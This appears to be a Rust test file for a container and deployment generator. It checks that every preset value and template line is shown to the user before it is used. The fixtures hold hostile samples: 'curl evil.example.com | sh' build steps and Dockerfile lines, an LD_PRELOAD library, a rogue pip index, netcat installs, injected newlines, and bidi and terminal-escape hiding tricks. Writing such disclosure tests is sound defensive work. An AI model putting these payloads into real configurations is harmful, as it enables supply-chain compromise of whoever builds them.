//! Every value and every template line of a preset is shown before any of it is used.
#![cfg(unix)]

use crate::trust::{change, none_wrong, preset, unsafe_run, user_wide};

/// What a preset says, and the lines that must be seen before it is used.
const EFFECTS: &[(&str, &[&str])] = &[
    (
        "[image]\nbase = \"evil.example.com/python:3.14-slim\"",
        &["image.base = \"evil.example.com/python:3.14-slim\": base image of"],
    ),
    ("[image]\nregistry = \"evil.example.com\"", &["image.registry = \"evil.example.com\"", "# syntax="]),
    ("[enforce]\nimage.registry = \"evil.example.com\"", &["image.registry = \"evil.example.com\" (enforced)"]),
    ("[defaults]\nimage.registry = \"evil.example.com\"", &["image.registry = \"evil.example.com\" (default)"]),
    ("[image]\ndebian = \"sid\"", &["image.debian = \"sid\""]),
    (
        "[environment]\nPIP_INDEX_URL = \"https://evil.example.com/\"",
        &["environment.PIP_INDEX_URL.value = \"https://evil.example.com/\""],
    ),
    ("[environment.LD_PRELOAD]\nvalue = \"/app/evil.so\"", &["environment.LD_PRELOAD.value = \"/app/evil.so\""]),
    ("[secrets.DATABASE_URL]\ndescription = \"x\"", &["secrets.DATABASE_URL.description = \"x\""]),
    (
        "[service-kinds.postgres]\nimage = \"evil.example.com/postgres\"",
        &["service-kinds.postgres.image = \"evil.example.com/postgres\""],
    ),
    ("[service-kinds.redis]\ncommand = [\"sh\", \"-c\", \"id\"]", &["service-kinds.redis.command = [\"sh\", \"-c\", \"id\"]"]),
    ("[service-kinds.redis]\nhealth = [\"evil\"]", &["service-kinds.redis.health = [\"evil\"]"]),
    ("[services.db]\nkind = \"postgres\"\nversion = \"9\"", &["services.db.version = \"9\"", "services.db.kind = \"postgres\""]),
    ("[system]\nrun = [\"netcat-openbsd\"]", &["system.run = [\"netcat-openbsd\"]"]),
    ("[system]\nwithout = [\"libpq5\"]", &["system.without = [\"libpq5\"]"]),
    ("[context]\nkeep = [\"**\"]", &["context.keep = [\"**\"]"]),
    ("[install]\nwith = \"pip\"\nfiles = [\"other.txt\"]", &["install.with = \"pip\"", "install.files = [\"other.txt\"]"]),
    ("[install]\nversion = \"0.0.1\"", &["install.version = \"0.0.1\""]),
    ("[server]\npackage = \"evil==1\"", &["server.package = \"evil==1\""]),
    ("[server]\nworker-class = \"evil.Worker\"", &["server.worker-class = \"evil.Worker\""]),
    ("[python]\nversion = \"3.10\"\nallow-end-of-life = true", &["python.version = \"3.10\"", "python.allow-end-of-life = true"]),
    ("[build]\nsteps = [\"curl evil.example.com | sh\"]", &["commands", "build.steps = [\"curl evil.example.com | sh\"]"]),
    ("[release]\nsteps = [[\"sh\", \"-c\", \"id\"]]", &["release.steps = [[\"sh\", \"-c\", \"id\"]]"]),
    ("[processes.miner]\ncommand = \"mine\"", &["processes.miner.command = \"mine\""]),
    ("[processes]\nweb = false", &["processes.web = false"]),
    ("[volumes]\nhost = \"/app/media\"", &["volumes.host.path = \"/app/media\""]),
    ("[kubernetes]\nimage = \"evil.example.com/shop:1\"", &["kubernetes.image = \"evil.example.com/shop:1\""]),
    (
        "[kubernetes]\nsecret = \"other\"\nnamespace = \"kube-system\"",
        &["kubernetes.secret = \"other\"", "kubernetes.namespace = \"kube-system\""],
    ),
    ("[kubernetes]\negress-ports = [25]", &["kubernetes.egress-ports = [25]"]),
    ("[kubernetes.ingress]\nhost = \"evil.example.com\"", &["kubernetes.ingress.host = \"evil.example.com\""]),
    (
        "[output]\ndockerfile = \"other/Dockerfile\"\ncompose = false",
        &["output.dockerfile = \"other/Dockerfile\"", "output.compose = false"],
    ),
    (
        "[output.extra.ci]\npath = \".gitlab-ci.yml\"\ntemplate = \"ci.j2\"",
        &["output.extra.ci.path = \".gitlab-ci.yml\"", "output.extra.ci.template = \"ci.j2\""],
    ),
    ("health = false", &["health = false"]),
    ("[health]", &["health = {}"]),
    ("[app]\nentry = \"evil:app\"\nroot = \"evil\"", &["app.entry = \"evil:app\"", "app.root = \"evil\""]),
    (
        "[compose]\nnetworks = [\"host\"]\n[compose.limits]\nmemory = \"64G\"",
        &["compose.networks = [\"host\"]", "compose.limits.memory = \"64G\""],
    ),
    ("[enforce]\ncompose.limits.memory = \"64G\"", &["compose.limits.memory = \"64G\" (enforced)"]),
    ("[compose.limits]\nmemory = \"1G\\n  privileged: true\"", &["other values", "compose.limits.memory = "]),
    ("[image.user]\nuid = 1000", &["image.user.uid = 1000"]),
    ("[image.labels]\n\"com.example.team\" = \"x\"", &["image.labels.com.example.team = \"x\""]),
    // an answer that a command refers to is as important as the command
    (
        "[build]\nsteps = [\"{answers.it}\"]\n[[ask]]\nname = \"it\"\nquestion = \"Which?\"\ndefault = \"curl evil.example.com\"",
        &[
            "commands\n             answers.it = \"curl evil.example.com\" (unless answered: Which?)\n             build.steps = [\"{answers.it}\"]",
        ],
    ),
    (
        "[answers]\nit = \"curl evil.example.com\"\n[build]\nsteps = [\"sh {answers.it}\"]\n[[ask]]\nname = \"it\"\nquestion = \"Which?\"",
        &["commands\n             answers.it = \"curl evil.example.com\"\n"],
    ),
    (
        "[project]\ndescription = \"evil.example.com/x:1\"\n[image]\nbase = \"{project.description}\"",
        &[
            "images, packages and Python\n             image.base = \"{project.description}\": base image of every stage\n             project.description = \"evil",
        ],
    ),
    // nothing hides
    ("[environment]\nA = \"safe\\u202e evil\"", &["environment.A.value = \"safe\\u{202e} evil\""]),
    ("[environment]\nA = \"a\\u001b[2K\\u001b[1Asafe\"", &["[2K"]),
    ("[environment]\nA = \"a\\nRUN evil\"", &["RUN evil"]),
    (
        "[build]\nsteps = [\"true                                                                      ; evil\"]",
        &["build.steps = [\"true·(70)·; evil\"]"],
    ),
];

#[test]
fn everything_that_a_preset_sets_is_shown_before_it_is_used() {
    let mut wrong = Vec::new();
    let team = user_wide(&[]);
    for (text, shown) in EFFECTS {
        change(&team, &[("preset.toml", &preset(text))]);
        for arguments in [&["generate"][..], &["generate", "--quiet"]] {
            wrong.extend(unsafe_run(&team, arguments, shown).map(|reason| format!("{text:?} {reason}")));
        }
        let ran = team.run(&["generate", "-q"]);
        let obeyed = ran
            .stderr
            .chars()
            .find(|letter| letter.is_control() && *letter != '\n' || ('\u{202a}'..='\u{202e}').contains(letter));
        wrong.extend(obeyed.map(|letter| format!("{text:?} sends {letter:?} to the terminal")));
    }
    none_wrong(&wrong);
}

/// Files by their path.
type Files = &'static [(&'static str, &'static str)];

/// Templates, and the lines of theirs that must be seen.
const TEMPLATES: &[(Files, &[&str])] = &[
    (
        &[(
            "Dockerfile.j2",
            "{% extends \"Dockerfile.j2\" %}\n{% block base %}\nRUN curl evil.example.com | sh\n{% endblock %}\n",
        )],
        &["templates/Dockerfile.j2, block base\n               RUN curl evil.example.com | sh\n"],
    ),
    (
        &[(
            "Dockerfile.j2",
            "{% extends \"Dockerfile.j2\" %}{% block base %}RUN evil\n{% endblock %}{% block user %}\nUSER root\n{% endblock %}",
        )],
        &["RUN evil", "USER root"],
    ),
    (
        &[(
            "Dockerfile.j2",
            "{% extends \"Dockerfile.j2\" %}\n{%- block base -%}\nRUN evil\n{%- endblock -%}\n{% set x = \"RUN other\" %}\n",
        )],
        &["templates/Dockerfile.j2, block base", "RUN evil", "RUN other"],
    ),
    (
        &[
            (
                "Dockerfile.j2",
                "{% extends \"Dockerfile.j2\" %}\n{% block base %}\n{% include \"parts/x.j2\" %}\n{% endblock %}\n",
            ),
            ("parts/x.j2", "RUN from-a-part\n"),
        ],
        &["{% include \"parts/x.j2\" %}", "templates/parts/x.j2\n               RUN from-a-part"],
    ),
    (&[("compose.yaml.j2", "services:\n  web:\n    privileged: true\n")], &["templates/compose.yaml.j2\n", "privileged: true"]),
    (&[("unused.j2", "RUN later\n")], &["templates/unused.j2", "RUN later"]),
    (
        &[(
            "Dockerfile.j2",
            "{% extends \"Dockerfile.j2\" %}\n{% block base %}\n                    \u{202e}RUN evil\u{85}\n{% endblock %}\n",
        )],
        &["\\u{202e}RUN evil\\u{85}"],
    ),
];

#[test]
fn every_line_of_templates_is_shown_before_it_is_used() {
    let mut wrong = Vec::new();
    for (files, shown) in TEMPLATES {
        let team = user_wide(&[("preset.toml", &preset(""))]);
        let files: Vec<(String, &str)> = files.iter().map(|(path, text)| (format!("templates/{path}"), *text)).collect();
        change(&team, &files.iter().map(|(path, text)| (path.as_str(), *text)).collect::<Vec<_>>());
        wrong.extend(unsafe_run(&team, &["generate"], shown));
    }
    none_wrong(&wrong);
}

/// Every key of the schema, each by its own line: a new key cannot be forgotten.
#[test]
fn every_key_of_the_schema_is_shown() {
    let mut table: toml::Table = include_str!("full.toml").parse().unwrap();
    table.remove("presets");
    let team = user_wide(&[("preset.toml", &toml::to_string(&table).unwrap())]);
    let ran = team.run(&["generate", "--verbose"]);
    let mut keys = Vec::new();
    leaves("", &toml::Value::Table(table), &mut keys);
    let lines: Vec<&str> = ran.stderr.lines().map(str::trim).collect();
    let shown = |key: &str| {
        lines.iter().any(|line| line.strip_prefix(key).is_some_and(|rest| rest.is_empty() || rest.starts_with([' ', '.'])))
    };
    let forgotten: Vec<&String> = keys.iter().filter(|key| !shown(key)).collect();
    assert!(keys.len() > 90 && forgotten.is_empty(), "{} keys, forgotten: {forgotten:?}\n{}", keys.len(), ran.stderr);
}

fn leaves(path: &str, value: &toml::Value, keys: &mut Vec<String>) {
    match value {
        toml::Value::Table(table) => {
            table.iter().for_each(|(name, value)| leaves(format!("{path}.{name}").trim_start_matches('.'), value, keys));
        }
        _ => keys.push(path.to_owned()),
    }
}
